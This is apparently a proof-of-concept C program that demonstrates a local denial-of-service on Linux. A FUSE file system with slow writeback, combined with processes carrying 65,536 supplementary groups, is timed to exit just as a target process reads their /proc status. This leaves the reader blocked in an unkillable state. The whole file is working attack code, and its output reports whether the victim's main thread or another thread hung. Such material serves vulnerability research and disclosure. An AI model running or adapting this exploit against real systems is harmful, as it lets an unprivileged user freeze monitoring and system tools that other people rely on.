/* ending NAME UID MILLISECONDS TRIES PID: what any user can do to whoever reads /proc/PID/stat or status.
 *
 * Meanwhile the kernel holds the memory of the process. If that ends just then, its mappings are closed by the
 * reader, which waits until the FUSE file system of the user has written back a page, and cannot be killed.
 * 65,536 supplementary groups make `status` long, so that the moment is long, too. (Users have such groups by
 * newgidmap, and mount in namespaces of their own; here, root does both for them.)
 *
 * TRIES processes of UID called NAME end when the process PID has opened their `status` (users guess the moment);
 * each write takes MILLISECONDS. Prints which thread of PID waited: "main", "another" or "none". */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define GROUPS 65536
#define FOLDER "/run/ending"

static int device;

static void die(const char *what) { perror(what); exit(1); }

static void answer(struct fuse_in_header *request, int error, const void *data, size_t size)
{
	char reply[8192];
	struct fuse_out_header *header = (void *)reply;
	*header = (struct fuse_out_header){sizeof *header + size, error, request->unique};
	if (size) memcpy(header + 1, data, size);
	if (write(device, reply, header->len) < 0 && errno != ENOENT) die("answer");
}

static void serve(int milliseconds)
{
	static char buffer[1 << 20], zeros[4096];
	for (;;) {
		struct fuse_in_header *request = (void *)buffer;
		if (read(device, buffer, sizeof buffer) < 0) {
			if (errno == EINTR || errno == ENOENT) continue;
			exit(0); /* unmounted */
		}
		struct fuse_attr file = {.ino = request->nodeid, .nlink = 1, .mode = S_IFREG | 0666, .size = 4096};
		if (request->nodeid == FUSE_ROOT_ID) file.mode = S_IFDIR | 0755;
		if (request->opcode == FUSE_INIT) {
			struct fuse_init_out made = {
				.major = 7, .minor = 31, .max_write = 4096, .flags = FUSE_WRITEBACK_CACHE};
			answer(request, 0, &made, sizeof made);
		} else if (request->opcode == FUSE_LOOKUP) {
			unsigned long node = 2 + strtoul((char *)(request + 1), 0, 10);
			struct fuse_entry_out entry = {.nodeid = node, .attr_valid = 1000, .entry_valid = 1000};
			entry.attr = file;
			entry.attr.ino = node;
			entry.attr.mode = S_IFREG | 0666;
			answer(request, 0, &entry, sizeof entry);
		} else if (request->opcode == FUSE_GETATTR) {
			struct fuse_attr_out found = {.attr_valid = 1000, .attr = file};
			answer(request, 0, &found, sizeof found);
		} else if (request->opcode == FUSE_OPEN) {
			struct fuse_open_out opened = {.open_flags = FOPEN_KEEP_CACHE};
			answer(request, 0, &opened, sizeof opened);
		} else if (request->opcode == FUSE_READ) {
			answer(request, 0, zeros, sizeof zeros);
		} else if (request->opcode == FUSE_WRITE || request->opcode == FUSE_SETATTR) {
			if (fork()) continue;
			usleep(milliseconds * 1000);
			struct fuse_write_out written = {.size = 4096};
			struct fuse_attr_out changed = {.attr_valid = 1000, .attr = file};
			if (request->opcode == FUSE_WRITE) answer(request, 0, &written, sizeof written);
			else answer(request, 0, &changed, sizeof changed);
			_exit(0);
		} else if (request->opcode == FUSE_FLUSH || request->opcode == FUSE_RELEASE) {
			answer(request, 0, 0, 0);
		} else if (request->opcode != FUSE_INTERRUPT && request->opcode != FUSE_FORGET) {
			answer(request, -ENOSYS, 0, 0);
		}
	}
}

/* Become a process with a changed page of the file system, which ends when told to. */
static void end(const char *name, int uid, int number, volatile int *told)
{
	static gid_t groups[GROUPS];
	char text[64];
	snprintf(text, sizeof text, FOLDER "/%d", number);
	int file = open(text, O_RDWR);
	char *page = file < 0 ? MAP_FAILED : mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	if (page == MAP_FAILED) die(text);
	page[0]++;
	for (int group = 0; group < GROUPS; group++) groups[group] = 1000000 + group;
	if (setgroups(GROUPS, groups) || setresgid(uid, uid, uid) || setresuid(uid, uid, uid)) die("setuid");
	prctl(PR_SET_NAME, name);
	while (*told != number + 1) usleep(100);
	_exit(0);
}

/* Return whether a process has opened the `status` of another. */
static int reads(int pid, pid_t other)
{
	char folder[64], file[64], target[64], path[384];
	snprintf(folder, sizeof folder, "/proc/%d/fd", pid);
	snprintf(file, sizeof file, "/proc/%d/status", other);
	DIR *files = opendir(folder);
	if (!files) die(folder);
	int found = 0;
	for (struct dirent *entry; !found && (entry = readdir(files));) {
		snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
		ssize_t size = readlink(path, target, sizeof target - 1);
		target[size < 0 ? 0 : size] = 0;
		found = !strcmp(target, file);
	}
	closedir(files);
	return found;
}

/* Return a thread of a process that waits for the file system, 0 if none does. */
static int waiting(int pid)
{
	char path[64], text[4096];
	snprintf(path, sizeof path, "/proc/%d/task", pid);
	DIR *folder = opendir(path);
	if (!folder) die(path);
	int found = 0;
	for (struct dirent *entry; !found && (entry = readdir(folder));) {
		snprintf(path, sizeof path, "/proc/%d/task/%.20s/stack", pid, entry->d_name);
		int file = open(path, O_RDONLY);
		ssize_t size = file < 0 ? -1 : read(file, text, sizeof text - 1);
		if (file >= 0) close(file);
		text[size < 0 ? 0 : size] = 0;
		if (strstr(text, "fuse_vma_close")) found = atoi(entry->d_name);
	}
	closedir(folder);
	return found;
}

int main(int argc, char **argv)
{
	if (argc != 6) return 2;
	int uid = atoi(argv[2]), milliseconds = atoi(argv[3]), tries = atoi(argv[4]), pid = atoi(argv[5]), found = 0;
	char text[128];
	if (unshare(CLONE_NEWNS) || mount(0, "/", 0, MS_REC | MS_PRIVATE, 0)) die("unshare");
	mkdir(FOLDER, 0755);
	device = open("/dev/fuse", O_RDWR);
	if (device < 0) die("/dev/fuse");
	snprintf(text, sizeof text, "fd=%d,rootmode=40000,user_id=0,group_id=0", device);
	if (mount("ending", FOLDER, "fuse", MS_NOSUID | MS_NODEV, text)) die("mount");
	pid_t server = fork();
	if (!server) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		signal(SIGCHLD, SIG_IGN);
		serve(milliseconds);
	}
	volatile int *told = mmap(0, sizeof *told, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (told == MAP_FAILED) die("mmap");
	for (int number = 0; number < tries && !found; number++) {
		pid_t child = fork();
		if (!child) end(argv[1], uid, number, told);
		for (time_t until = time(0) + 3; time(0) < until && !reads(pid, child););
		*told = number + 1;
		for (int look = 0; look < 40 && !found; look++) {
			usleep(25000);
			found = waiting(pid);
		}
		while (waitpid(-1, 0, WNOHANG) > 0);
	}
	puts(!found ? "none" : found == pid ? "main" : "another");
	fflush(stdout);
	usleep(milliseconds * 1000); /* until it goes on */
	umount2(FOLDER, MNT_FORCE | MNT_DETACH);
	kill(server, SIGKILL);
	return 0;
}
